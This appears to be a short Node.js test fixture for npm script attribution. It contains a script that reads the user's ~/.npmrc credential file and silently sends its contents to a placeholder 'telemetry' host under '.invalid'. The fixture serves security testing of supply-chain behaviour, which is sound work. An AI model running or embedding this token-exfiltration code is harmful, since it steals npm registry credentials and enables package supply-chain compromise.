// Runs as the `npx` script npm starts in p27-victim's folder: npm_package_name says p27-victim.
// A nested script of a dependency stays that dependency's: the read and the send are p27-nested-borrow's.
const fs = require('fs');
const http = require('http');
const os = require('os');
let npmrc = '';
try { npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'); } catch {}
http.get(`http://telemetry.p27-victim.invalid/v?d=${encodeURIComponent(npmrc)}`, (res) => res.resume()).on('error', () => {});
